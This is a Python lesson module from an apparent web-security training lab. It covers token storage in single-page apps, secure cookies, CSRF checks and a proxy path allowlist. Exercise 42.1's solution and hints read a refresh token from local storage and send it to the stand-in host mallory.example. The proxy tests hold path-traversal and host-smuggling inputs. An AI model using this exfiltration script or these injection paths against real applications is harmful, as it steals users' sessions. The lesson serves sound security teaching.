"""Lesson 42: a single-page application, and the script that gets in."""

from __future__ import annotations

from typing import Any

from jwtlab.errors import kind
from jwtlab.exercises.model import Exercise, Lesson, NotYet, Option, Question, Wrong, mistakes
from jwtlab.exercises.safely import call
from jwtlab.exercises.table import NOTHING, TRUE_OR_FALSE, Case, Table, near, near_misses, true_or_false
from jwtlab.oauth.browser_app import LAB_PLACES, prepare
from jwtlab.oauth.browser_app import PlayedCase as Scene
from jwtlab.oauth.web import CookieStore
from jwtlab.oauth.web.cookies import Cookie, Occasion

_HOUR = 3600


@mistakes(
    {
        "nothing-sent": "Your script has run, and nothing has arrived at https://mallory.example/loot. Send it there "
        'with window.fetch(address, "POST", mode="no-cors", body=text).',
        "no-use": "Something has arrived, {what} characters, and an hour later it opens nothing. Which of the things "
        "that are kept lasts?",
        "soon-over": "That was the access token: it is good for a quarter of an hour, and an hour has passed. Beside "
        "it lies one that lasts longer.",
    }
)
def _judge_script(answer: Any) -> str:
    if not callable(answer):
        raise Wrong("no-function")
    problem: Wrong | None = None

    def script(window: Any) -> None:
        nonlocal problem
        try:
            call(answer, window)
        except Wrong as wrong:
            problem = wrong

    played = prepare(Scene("local-storage", "what-is-kept by note"), script=script)
    window = played.browser.open(LAB_PLACES.app)
    loot = "".join(played.stage.mallory.loot)
    played.wait(_HOUR)
    if played.stage.mallory.reads_the_notes():
        return (
            "An hour later, with the page closed, Mallory reads Alice's notes: she refreshes by herself. Two lines "
            "of script, and no password was asked."
        )
    if problem is not None:
        raise problem
    if not loot:
        if not getattr(getattr(answer, "__code__", None), "co_names", True):
            raise NotYet("Your script does nothing yet. Write it, and run this cell again.")
        raise Wrong("nothing-sent")
    if window.local_storage["access_token"] in loot:
        raise Wrong("soon-over")
    raise Wrong("no-use", what=len(loot))


_URL = f"{LAB_PLACES.app}/backend/callback"
_STRANGER = Occasion(LAB_PLACES.mallory)


@mistakes(
    {
        "not-text": "Return the value of the header Set-Cookie, which is a text; your function gives {what}.",
        "not-taken": "The browser does not take this cookie: {line}. Name and value come first, and a name that begins "
        "with __Host- wants Secure, Path=/ and no Domain.",
        "other-value": "The cookie has to hold {value!r}; this one holds {found!r}.",
        "script-sees-it": "A script reads it with document.cookie: one attribute is missing.",
        "without-tls": "It would travel over http too: one attribute is missing.",
        "crosses": "Another site's link or form brings it along. The strictest value of SameSite keeps it at home.",
        "not-everywhere": "It goes only to addresses below {path}, and the page asks at /backend/notes: say Path=/.",
        "sibling-sets-it": "A taken-over sibling could set a cookie of this name for the whole site. The prefix "
        "__Host- before the name lets only this very host set it.",
        "outlives": "It has a lifetime of its own. Without one it ends when the browser is closed, and the session is "
        "at the server anyway.",
    }
)
def _judge_cookie(answer: Any) -> str:
    lines = [(value, call(answer, value)) for value in ("s3cr3t-1", "Zq-_90", "a" * 43)]
    if all(line is None or line is ... for _, line in lines):
        raise NotYet(NOTHING)
    for value, line in lines:
        if not isinstance(line, str):
            raise Wrong("not-text", what=kind(line))
        store = CookieStore()
        if "\n" in line or not store.receive(line, _URL) or not len(store):
            raise Wrong("not-taken", line=line[:120])
        _examine(next(iter(store)), store, value)
    return "All that RFC 10017 asks of a backend's cookie (§6.1.3.2), in one line. The browser keeps every word of it."


def _examine(cookie: Cookie, store: CookieStore, value: str) -> None:
    if cookie.value != value:
        raise Wrong("other-value", value=value, found=cookie.value[:60])
    if store.seen_by_script(LAB_PLACES.app):
        raise Wrong("script-sees-it")
    if not cookie.secure:
        raise Wrong("without-tls")
    if store.going_along(_URL, _STRANGER):
        raise Wrong("crosses")
    if cookie.path != "/":
        raise Wrong("not-everywhere", path=cookie.path)
    if not cookie.name.startswith("__Host-"):
        raise Wrong("sibling-sets-it")
    if cookie.expires is not None:
        raise Wrong("outlives")


_TOKEN = "tK3-x_9sQw7"
_SESSION = {"user": "alice", "csrf": _TOKEN}
_HEADER = {"x-csrf-token": _TOKEN}
_judge_door = Table(
    cases=(
        Case("reading", ("GET", {}, _SESSION), True, "Reading changes nothing, so nobody is asked for the token."),
        Case("reading", ("HEAD", {}, _SESSION), True, ""),
        Case("writing", ("POST", _HEADER, _SESSION), True, "The header holds the token of this session."),
        Case("writing", ("DELETE", _HEADER, _SESSION), True, ""),
        Case("no-session", ("GET", {}, None), False, "Nobody is logged in here: the session is None."),
        Case("no-session", ("POST", _HEADER, None), False, ""),
        Case("no-header", ("POST", {}, _SESSION), False, "A form of another site brings no header x-csrf-token."),
        Case("every-method", ("PUT", {}, _SESSION), False, "Every method but GET and HEAD changes something."),
        Case("every-method", ("DELETE", {}, _SESSION), False, ""),
        Case("every-method", ("PATCH", {}, _SESSION), False, ""),
        Case("every-method", ("post", {}, _SESSION), False, ""),
        Case("other-header", ("POST", {"authorization": _TOKEN}, _SESSION), False, "The token is in another header."),
        Case("other-session", ("POST", {"x-csrf-token": "oTh3r-tok3n"}, _SESSION), False,
             "This token belongs to another session."),
        Case("other-session", ("POST", _HEADER, {"user": "bob", "csrf": "oTh3r-tok3n"}), False, ""),
        Case("other-session", ("POST", {"x-csrf-token": "oTh3r-tok3n"}, {"user": "bob", "csrf": "oTh3r-tok3n"}), True,
             ""),
        Case("nothing-equals-nothing", ("POST", {}, {"user": "alice"}), False,
             "This session has no token yet: two things that are missing are equal, and prove nothing."),
        Case("nothing-equals-nothing", ("POST", {"x-csrf-token": ""}, {"user": "alice", "csrf": ""}), False, ""),
        Case("nothing-equals-nothing", ("POST", {"x-csrf-token": "POST"}, {"user": "alice"}), False, ""),
        Case("reading", ("GET", {}, {"user": "alice"}), True, ""),
        Case("no-header", ("POST", {}, {"user": "alice", "csrf": "POST"}), False, ""),
        Case("other-session", ("POST", {"x-csrf-token": "tok3n"}, {"user": "bob", "csrf": "tok3n/"}), False, ""),
        Case("other-session", ("POST", {"x-csrf-token": "t-k3n"}, {"user": "bob", "csrf": "t.k3n"}), False, ""),
        *(each for name in ("GET", "HEAD") for each in near("method", name, lambda text: (text, {}, _SESSION), False)),
        *near("token", _TOKEN, lambda text: ("POST", {"x-csrf-token": text}, _SESSION), False),
    ),
    read=true_or_false,
    own=TRUE_OR_FALSE,
    praise="Forms of other sites, and of siblings, bring the cookie and not the header. Compare with "
    "hmac.compare_digest at work: it takes the same time for every wrong token.",
)  # fmt: skip

_API = "https://api.notes.example"
_PATHS = (
    ("the-list", "/backend/notes", f"{_API}/notes", "The list of notes is one of the two that are allowed."),
    ("one-note", "/backend/notes/7", f"{_API}/notes/7", "A note has a number, and the API knows it by the same."),
    ("one-note", "/backend/notes/120", f"{_API}/notes/120", ""),
    ("something-else", "/backend/people", None, "The page needs notes; everything else stays shut, whatever it is."),
    ("something-else", "/backend/admin/notes", None, ""),
    ("something-else", "/backend/", None, ""),
    ("something-else", "/notes", None, ""),
    ("another-host", "/backend/https://mallory.example/notes", None,
     "The path names another host: the token would go there."),
    ("another-host", "/backend/@mallory.example/notes", None, ""),
    ("another-host", "/backend//mallory.example/notes", None, ""),
    ("another-host", "/backend.mallory.example/notes", None, ""),
    ("up", "/backend/notes/../admin", None, "Two dots climb out of the notes again."),
    ("up", "/backend/notes/..", None, ""),
    ("up", "/backend/notes/%2e%2e/admin", None, ""),
    ("no-number", "/backend/notes/", None, "There is no number behind the slash."),
    ("no-number", "/backend/notes/all", None, ""),
    ("no-number", "/backend/notes/7a", None, ""),
    ("no-number", "/backend/notes/-7", None, ""),
    ("no-number", "/backend/notes/7.0", None, ""),
    ("other-digits", "/backend/notes/²", None, "isdigit and \\d know the digits of every script. Plain ones are "
     "0 to 9: [0-9]."),
    ("other-digits", "/backend/notes/٧", None, ""),
    ("no-number", "/backend/notes/7/edit", None, ""),
    ("no-number", "/backend/notes/7?x", None, ""),
    ("line-break", "/backend/notes/7\n", None, "A line break stands at its end, which $ overlooks: compare the whole "
     "text (re.fullmatch)."),
    ("no-number", "/backend/notes/ 7", None, ""),
)  # fmt: skip
_judge_proxy = Table(
    cases=(
        *(Case(name, (path,), address, why) for name, path, address, why in _PATHS),
        *near("path", "/backend/notes", lambda text: (text,), None),
        *(
            Case("path-loosely", (text,), None, "", {"value": text, "right": "/backend/notes/7", "how": how})
            for _, how, text in near_misses("/backend/notes/7")
            if text != "/backend/notes/70"
        ),
    ),
    none_counts=True,
    praise="A list of what is open, and nothing else: so no path makes the backend carry Alice's token elsewhere.",
)
"""The proxy's list."""

LESSON = Lesson(
    number="42",
    name="42_browser_app",
    title="A single-page application",
    why="A page's scripts share everything, and one that gets in is a script like the others.",
    minutes=45,
    needs=("23", "33"),
    exercises=(
        Exercise(
            id="42.1",
            title="Be the script",
            judge_answer=_judge_script,
            hints=(
                "window.local_storage is a dict: print(list(window.local_storage)) shows what the page keeps.",
                "The access token ends after a quarter of an hour. The other one fetches new ones.",
                'window.fetch("https://mallory.example/loot", "POST", mode="no-cors", body=...) sends a text.',
            ),
            solution="""\
def answer(window):
    loot = window.local_storage["refresh_token"]
    window.fetch("https://mallory.example/loot", "POST", mode="no-cors", body=loot)""",
        ),
        Exercise(
            id="42.2",
            title="A cookie for the backend",
            judge_answer=_judge_cookie,
            hints=(
                "The value of Set-Cookie is name=value, and then attributes, each behind a semicolon.",
                "No script, no http, no other site, the whole host: HttpOnly, Secure, SameSite=Strict, Path=/.",
                "The name begins with __Host-, so that no sibling sets it.",
            ),
            solution="""\
def answer(value):
    return f"__Host-session={value}; Secure; HttpOnly; SameSite=Strict; Path=/\"""",
        ),
        Exercise(
            id="42.3",
            title="The door for writers",
            judge_answer=_judge_door,
            hints=(
                "Without a session nobody gets in. GET and HEAD then need no token.",
                'headers.get("x-csrf-token") may be None; so may session.get("csrf").',
                "A token that is missing on both sides is no token: ask that the session has one.",
            ),
            solution="""\
def answer(method, headers, session):
    if session is None:
        return False
    if method in ("GET", "HEAD"):
        return True
    token = session.get("csrf")
    return bool(token) and headers.get("x-csrf-token") == token""",
        ),
        Exercise(
            id="42.4",
            title="What the backend hands on",
            judge_answer=_judge_proxy,
            hints=(
                "Do not build an address out of any path: first ask whether it is one of the two that are allowed.",
                're.fullmatch(pattern, path) takes the whole path, and "$" would let a line break by.',
                "[0-9]+ is a number in plain digits; \\d also takes those of other scripts.",
            ),
            solution="""\
import re

def answer(path):
    found = re.fullmatch("/backend(/notes(?:/[0-9]+)?)", path)
    return "https://api.notes.example" + found[1] if found else None""",
        ),
    ),
    predictions=(
        Question(
            id="42.p1",
            text="A script of Mallory's runs in Alice's notes page. Where are the tokens safe from it?",
            options=(
                Option(text="In a variable, for no other script sees it", why="The script puts its own function in "
                       "the place of fetch, and the next request hands the token over. You will play it."),
                Option(text="In a service worker, for no page looks into it", why="True, and no need: the script logs "
                       "in once more, unseen, and has tokens of its own."),
                Option(text="At a server: then there are none in the browser", why="What it cannot take it can still "
                       "use, as long as the page is open. But it takes nothing home.", right=True),
            ),
        ),
    ),
    quiz=(
        Question(
            id="42.q1",
            text="A page with the policy script-src 'self' loads a library of its own origin into which somebody has "
            "put a script. What does the policy do?",
            options=(
                Option(text="It stops the script, which its author did not write", why="It asks where a script comes "
                       "from, not who wrote it. A hash in the page (Subresource Integrity) asks for the very text."),
                Option(text="Nothing: the script comes from where scripts may come from", why="It runs. connect-src "
                       "may still keep it from sending; going elsewhere with the loot in the address is not forbidden.",
                       right=True),
                Option(text="It stops what the script sends", why="Requests, if connect-src says so. But no directive "
                       "forbids a page to go elsewhere, and the address may carry everything."),
            ),
        ),
        Question(
            id="42.q2",
            text="The API answers Access-Control-Allow-Origin: https://notes.example. Mallory's page posts a form "
            "to it. What keeps the note from being written?",
            options=(
                Option(text="CORS: her origin is not allowed", why="CORS decides who reads an answer. A form is sent "
                       "without asking, and written is written."),
                Option(text="Not CORS; that the form brings no Authorization header, and no cookie counts here",
                       why="A token in a header is sent by a script alone, and a script would be asked by a preflight.",
                       right=True),
                Option(text="Nothing: the note is written", why="The API wants a token in a header, and no form can "
                       "send one."),
            ),
        ),
        Question(
            id="42.q3",
            text="The tokens are bound to a key that cannot be exported. A script is in the page. What can it do?",
            options=(
                Option(text="Copy token and key, and use them at home", why="The browser signs with the key, and gives "
                       "it to nobody."),
                Option(text="Nothing, without the key", why="It may use the key as the page does: it is a script of "
                       "the page."),
                Option(text="Use the key while the page is open, and log in once more with a key of its own",
                       why="Both were played in this lesson; RFC 10017 says so too (§5.1.3, §5.2.2).", right=True),
            ),
        ),
    ),
)  # fmt: skip
